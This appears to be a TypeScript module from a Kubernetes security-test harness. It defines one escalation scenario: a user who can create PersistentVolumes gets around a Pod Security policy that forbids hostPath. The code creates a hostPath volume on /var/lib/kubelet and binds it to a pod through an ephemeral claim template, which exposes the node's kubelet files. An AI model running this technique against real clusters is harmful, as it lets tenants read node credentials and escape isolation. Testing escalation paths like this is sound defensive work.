import { pathOf, waitFor } from "../../control-plane/act.ts";
import { ACCEPTED, type Attack } from "./attack.ts";
import { harmless } from "./kubelet.ts";
import { enforce, podSecurity } from "./psa.ts";
import { fresh } from "./stage.ts";

const VOLUMES = "/api/v1/persistentvolumes";
const CAPACITY = { storage: "1Gi" };

export const attacks: Attack[] = [
  {
    edge: "persistentvolumes-create",
    how: "a pod that sees the files of its node by a volume, where Pod Security forbids it the hostPath",
    accepted: true,
    rights: (stage) => [stage.everywhere("create", "persistentvolumes"), stage.here("create", "pods")],
    arrange: async (stage) => {
      await enforce(stage, "baseline");
      await podSecurity(stage, "refuses");
    },
    attack: async (stage) => {
      const { plane, namespace } = stage;
      const name = fresh("node-files");
      const claim = `${name}-node`;
      const accessModes = ["ReadWriteOnce"];
      const claimRef = { namespace, name: claim };
      const volume = { accessModes, capacity: CAPACITY, storageClassName: "", hostPath: { path: "/var/lib/kubelet" } };
      await stage.send("POST", VOLUMES, { metadata: { name }, spec: { ...volume, claimRef } });
      const spec = { accessModes, resources: { requests: CAPACITY }, storageClassName: "", volumeName: name };
      const volumes = [{ name: "node", ephemeral: { volumeClaimTemplate: { spec } } }];
      await stage.send("POST", pathOf("Pod", namespace), { metadata: { name }, spec: harmless(stage, { volumes }) });
      // The attacker may make no claims: a controller makes this one, of the pod's volume.
      await waitFor("the claim", async () => {
        const { status, body } = await plane.request(
          "GET",
          `/api/v1/namespaces/${namespace}/persistentvolumeclaims/${claim}`,
        );
        return status === 200 && body.spec.volumeName === name;
      });
      return ACCEPTED;
    },
  },
];
